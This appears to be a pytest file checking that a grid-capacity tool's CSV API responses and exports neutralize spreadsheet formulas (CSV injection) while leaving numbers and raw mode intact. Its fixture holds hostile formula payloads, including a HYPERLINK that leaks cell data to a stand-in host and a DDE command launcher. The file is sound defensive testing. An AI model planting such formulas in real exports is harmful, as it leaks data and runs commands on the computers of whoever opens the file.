"""CSV answers and exports neutralize spreadsheet formulas in text cells (OWASP "CSV injection"):
a source value such as `=HYPERLINK(...)` reaches a spreadsheet as text, not as a live formula.
Numbers are never touched (a negative headroom stays a number), and `csv_raw=true` (API) or
`--csv-raw` (export) gives the values exactly, for machine consumers."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from hostcap.cli import app as cli
from hostcap.core import Hostcap

#: DER types as a hostile source could write them (CSV-quoted where they hold quotes or commas)
FORMULAS = {
    "9100001": '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "9100002": "@SUM(1+1)*cmd|' /C calc'!A0",
    "9100003": "+1+2",
    "9100004": "-2+3",
}


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


@pytest.fixture
def hostile(refreshable, tmp_path: Path) -> Hostcap:
    """A real refresh of sources whose DER file holds formulas in a text column (the DER type), and
    whose network file has a feeder with negative capacity (so a negative headroom)."""
    source = tmp_path / "src"
    shutil.copytree(refreshable.settings.source_dir, source)
    installed = next((source / "national_grid" / "installed_der").glob("*.csv"))
    rows = "".join(f"{der_id},null,{_quoted(kind)},5,36_01_21751,0\r\n" for der_id, kind in FORMULAS.items())
    installed.write_bytes(installed.read_bytes() + rows.encode())
    network = next((source / "national_grid" / "network").glob("*.csv"))  # a negative headroom, a number
    network.write_bytes(network.read_bytes() + b"36_01_99998,13.2,-1.5,0,0,,green,1.0\r\n")
    hostcap = Hostcap(refreshable.settings.model_copy(update={"source_dir": str(source)}))
    assert hostcap.refresh().published
    return hostcap


def _rows(body: bytes | str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode() if isinstance(body, bytes) else body)))


def _der_types(rows: list[dict[str, str]]) -> dict[str, str]:
    return {row["native_der_id"]: row["der_type_raw"] for row in rows if row["native_der_id"] in FORMULAS}


def test_api_csv_neutralizes_formulas_unless_raw_is_asked(hostile, make_client, api_settings):
    with make_client(hostile, api_settings()) as client:
        params = {"utility": "national_grid", "format": "csv", "all_pages": "true"}
        safe = _der_types(_rows(client.get("/v1/ders", params=params).content))
        assert safe == {der_id: "'" + kind for der_id, kind in FORMULAS.items()}
        raw = _der_types(_rows(client.get("/v1/ders", params={**params, "csv_raw": "true"}).content))
        assert raw == FORMULAS
        assert client.get("/v1/ders", params={**params, "csv_raw": "maybe"}).status_code == 422
        # the same for the prototype's calls and the whole-table lists
        compat = client.get("/getDERsForFeeder", params={"feederID": "36_01_21751"}, headers={"Accept": "text/csv"})
        assert _der_types(_rows(compat.content)) == safe
        # JSON is data, not a spreadsheet: values exactly
        body = client.get("/v1/ders", params={"utility": "national_grid", "all_pages": "true"}).json()
        assert {d["native_der_id"]: d["der_type_raw"] for d in body["data"] if d["native_der_id"] in FORMULAS} == FORMULAS

        # numbers are numbers: a negative headroom is written bare, never prefixed
        feeders = client.get("/v1/feeders", params={"format": "csv", "all_pages": "true", "sort": "headroom_after_queue_mw"})
        negative = [row["headroom_after_queue_mw"] for row in _rows(feeders.content) if row["native_feeder_id"] == "36_01_99998"]
        assert negative == ["-1.5"]
        assert b"'-" not in feeders.content


def test_csv_export_neutralizes_formulas_unless_raw_is_asked(hostile, tmp_path: Path):
    runner = CliRunner()
    lake = hostile.settings.lake_dir
    safe = runner.invoke(cli, ["export", "ders", "--lake", lake], catch_exceptions=False)
    assert safe.exit_code == 0
    assert _der_types(_rows(safe.stdout)) == {der_id: "'" + kind for der_id, kind in FORMULAS.items()}
    out = tmp_path / "raw.csv"
    raw = runner.invoke(cli, ["export", "ders", "--csv-raw", "--out", str(out), "--lake", lake], catch_exceptions=False)
    assert raw.exit_code == 0
    assert _der_types(_rows(out.read_bytes())) == FORMULAS
    feeders = runner.invoke(cli, ["export", "feeders", "--lake", lake], catch_exceptions=False).stdout
    assert [row["headroom_after_queue_mw"] for row in _rows(feeders) if row["native_feeder_id"] == "36_01_99998"] == ["-1.5"]
    assert "'-" not in feeders
